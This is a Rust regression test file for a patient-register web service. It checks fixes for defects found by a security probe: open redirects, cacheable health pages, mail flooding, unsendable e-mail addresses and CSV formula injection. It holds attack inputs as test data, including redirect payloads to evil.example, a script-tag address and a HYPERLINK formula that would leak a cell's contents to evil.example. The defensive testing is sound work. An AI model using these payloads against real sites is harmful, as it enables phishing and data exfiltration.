//! The defects an outside probe found, each reproduced as the probe did it:
//! an open redirect after sign-in, health-data pages a browser may cache,
//! the personnummer in the sign-out URL (in `sign_in.rs`), unlimited
//! confirmation mails, spreadsheet formulas in the log CSV, addresses that
//! can never be sent to; and the smaller ones: server functions' refusals
//! answered 5xx, the register API's `bearer` in lower case.

use crate::{
    helpers::{TestApp, on_both_engines, spawn_app_with_idp},
    idp::Browser,
};
use app::{
    domain::{AccessKind, ActorKind, HsaId, RegisterCode},
    server_fns::{GetNoticeAddress, GetRegister},
};
use insyn::db::{
    self, Engine,
    access_events::{NewAccessEvent, Source},
};
use leptos::server_fn::ServerFn;
use reqwest::StatusCode;

const TOLVAN: &str = "19121212-1212";
const NOWHERE: &str = "19800101-9937";
const QIVF_COORDINATOR: &str = "SE2321000016-1001";

async fn patient(app: &TestApp, personnummer: &str) -> Browser {
    let browser = app.browser();
    browser.sign_in_patient(personnummer).await;
    browser
}

#[tokio::test]
async fn no_next_takes_the_browser_to_another_site_after_sign_in() {
    let app = spawn_app_with_idp(Engine::Sqlite).await;
    for next in [
        // Browsers drop TAB, CR and LF: each of these would be //evil.example/.
        "/%09/evil.example/",
        "/%0D/evil.example/",
        "/%0A/evil.example/",
        "/%20/evil.example/",
        "/%5C/evil.example/",
        "//evil.example/",
        "https://evil.example/",
    ] {
        let browser = app.browser();
        let callback = browser
            .round_trip(&format!("/auth/login?next={next}"), "personnummer", TOLVAN)
            .await;
        let landed = browser.client.get(callback).send().await.unwrap();
        assert_eq!(landed.status(), StatusCode::SEE_OTHER, "{next}");
        assert_eq!(landed.headers()["location"], "/me", "{next}");
    }
    let browser = app.browser();
    let callback = browser
        .round_trip(
            "/auth/login?next=/me/log%3Fkind%3Dread",
            "personnummer",
            TOLVAN,
        )
        .await;
    let landed = browser.client.get(callback).send().await.unwrap();
    assert_eq!(landed.headers()["location"], "/me/log?kind=read");
}

#[tokio::test]
async fn the_language_switch_goes_nowhere_else_either() {
    let app = spawn_app_with_idp(Engine::Sqlite).await;
    let browser = app.browser();
    for next in [
        "/%09/evil.example/",
        "//evil.example/",
        "https://evil.example/",
    ] {
        let switched = browser.get(&format!("/lang/en?next={next}")).await;
        assert_eq!(switched.headers()["location"], "/", "{next}");
    }
}

/// Every page a signed-in patient and staff member opens, and every answer
/// of a server function, says `no-store`.
#[tokio::test]
async fn nothing_a_signed_in_person_is_sent_may_be_cached() {
    let app = spawn_app_with_idp(Engine::Sqlite).await;
    let tolvan = patient(&app, TOLVAN).await;
    for path in [
        "/",
        "/registers",
        "/registers/qivf",
        "/me",
        "/me/registers/qivf",
        "/me/requests",
        "/me/registers/qivf/request/correction",
        "/me/log",
        "/me/export.json",
        "/me/extract.pdf",
        "/me/log.csv",
        "/schema/export-v1.json",
        "/no-such-page",
    ] {
        let response = tolvan.get(path).await;
        assert_eq!(response.headers()["cache-control"], "no-store", "{path}");
    }
    let answer = tolvan
        .client
        .post(format!("{}{}", app.address, GetNoticeAddress::PATH))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    assert_eq!(answer.headers()["cache-control"], "no-store");

    let staff = app.browser();
    staff.sign_in_staff(QIVF_COORDINATOR).await;
    for path in ["/staff", "/staff/requests"] {
        let response = staff.get(path).await;
        assert_eq!(response.headers()["cache-control"], "no-store", "{path}");
    }
}

/// Refusals are 4xx, with the error in the body as before; a missing
/// register is 404. Only failures are 5xx.
#[tokio::test]
async fn server_functions_answer_refusals_with_4xx() {
    let app = spawn_app_with_idp(Engine::Sqlite).await;
    let call = |browser: &Browser, path: &'static str, body: &'static str| {
        let request = browser
            .client
            .post(format!("{}{path}", app.address))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send();
        async move {
            let response = request.await.unwrap();
            let status = response.status();
            let cache = response.headers().get("cache-control").cloned();
            (status, cache, response.text().await.unwrap())
        }
    };
    let nobody = app.browser();
    let (status, cache, body) = call(&nobody, GetNoticeAddress::PATH, "").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(body, "\"SignInRequired\"");
    assert_eq!(cache.unwrap(), "no-store");
    let (status, _, _) = call(&nobody, GetRegister::PATH, "code=nope&lang=sv").await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    let staff = app.browser();
    staff.sign_in_staff(QIVF_COORDINATOR).await;
    let (status, _, body) = call(&staff, GetNoticeAddress::PATH, "").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(body, "\"Forbidden\"");
}

/// Saves `email` through the form on *Mina ärenden*; answers the response.
async fn save(browser: &Browser, email: &str) -> reqwest::Response {
    browser
        .submit("/me/requests", &[("email", email), ("action", "save")])
        .await
}

async fn confirmation_mails(app: &TestApp) -> i64 {
    let (count,): (i64,) = sqlx::query_as(
        "SELECT COUNT(*) FROM outbox WHERE subject LIKE '%ekräfta%' OR subject LIKE '%onfirm%'",
    )
    .fetch_one(app.db.pool())
    .await
    .unwrap();
    count
}

on_both_engines! {
    with_idp:
    async fn saving_an_address_again_and_again_sends_no_flood_of_mail(app: TestApp) {
        let tolvan = patient(&app, TOLVAN).await;
        // The probe: 25 saves of someone else's address in a row.
        for _ in 0..25 {
            let saved = save(&tolvan, "someone.else@example.se").await;
            assert_eq!(saved.status(), StatusCode::SEE_OTHER);
        }
        assert_eq!(confirmation_mails(&app).await, 1, "one link, still valid");
        let again = save(&tolvan, "someone.else@example.se").await;
        assert_eq!(again.headers()["location"], "/me/requests?email=already-sent");

        // Other addresses, one after the other: five mails a day at most.
        for n in 1..=4 {
            let saved = save(&tolvan, &format!("other{n}@example.se")).await;
            assert_eq!(saved.headers()["location"], "/me/requests?email=saved", "{n}");
        }
        let refused = save(&tolvan, "other5@example.se").await;
        assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let html = refused.text().await.unwrap();
        assert!(html.contains("för många bekräftelsemejl"), "a field error");
        assert_eq!(confirmation_mails(&app).await, 5);

        // A day later the patient may again (the mails' times moved back a
        // day: the session would not outlive a day of the clock).
        sqlx::query("UPDATE confirmation_mails SET sent_at = sent_at - 86401")
            .execute(app.db.pool())
            .await
            .unwrap();
        let saved = save(&tolvan, "other5@example.se").await;
        assert_eq!(saved.headers()["location"], "/me/requests?email=saved");
    }

    async fn one_address_gets_three_links_a_day_whoever_asks(app: TestApp) {
        // Three people who each give the same stranger's address.
        for (n, person) in [TOLVAN, NOWHERE, "19850314-9869"].iter().enumerate() {
            let browser = patient(&app, person).await;
            let saved = save(&browser, "Target@Example.se").await;
            assert_eq!(saved.headers()["location"], "/me/requests?email=saved", "{n}");
        }
        let fourth = patient(&app, "19880702-9841").await;
        let refused = save(&fourth, "target@example.se").await;
        assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(confirmation_mails(&app).await, 3);
    }

    async fn an_address_the_sender_cannot_use_is_refused_at_the_form(app: TestApp) {
        let tolvan = patient(&app, TOLVAN).await;
        for bad in [
            "\"<script>alert(1)</script>\"@example.se",
            "nils@[127.0.0.1]",
            "nils@localhost",
            "Nils <nils@example.se>",
        ] {
            let refused = save(&tolvan, bad).await;
            assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
            let html = refused.text().await.unwrap();
            assert!(html.contains("Skriv en e-postadress"), "{bad}: a field error");
        }
        let (email,): (Option<String>,) =
            sqlx::query_as("SELECT email FROM patients WHERE personnummer = '191212121212'")
                .fetch_one(app.db.pool())
                .await
                .unwrap();
        assert_eq!(email, None, "nothing saved");
        assert_eq!(confirmation_mails(&app).await, 0, "nothing sent");
    }

    async fn a_formula_in_a_logged_reason_is_text_in_the_csv(app: TestApp) {
        let tolvan = patient(&app, TOLVAN).await;
        let (patient_id,): (i64,) =
            sqlx::query_as("SELECT id FROM patients WHERE personnummer = '191212121212'")
                .fetch_one(app.db.pool())
                .await
                .unwrap();
        let register = RegisterCode::parse("qivf").unwrap();
        let unit = HsaId::parse("SE2321000016-RM01").unwrap();
        let planted = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Öppna\")";
        let mut tx = app.db.begin_write().await.unwrap();
        for reason in [planted, "+1", "-1", "@SUM(1)", "\t=1"] {
            db::access_events::append(&mut tx, app.db.engine(), &NewAccessEvent {
                patient_id, register: &register, occurred_at: 1_782_900_000,
                actor: ActorKind::CareUnit, care_unit: Some(&unit), staff: None,
                kind: AccessKind::Read, reason: Some(reason), source: Source::RegisterSystem,
                source_event_id: None, acting: None, release: None, purpose: None, data_touched: None,
            }, 1_782_900_000).await.unwrap();
        }
        tx.commit().await.unwrap();
        let csv = tolvan.get("/me/log.csv").await.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let reasons: Vec<String> = reader
            .records()
            .map(|row| row.unwrap()[7].to_owned())
            .filter(|reason| !reason.is_empty())
            .collect();
        assert!(reasons.contains(&format!("'{planted}")), "{reasons:?}");
        for reason in &reasons {
            assert!(
                !reason.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{reason:?} would run as a formula"
            );
        }
    }
}
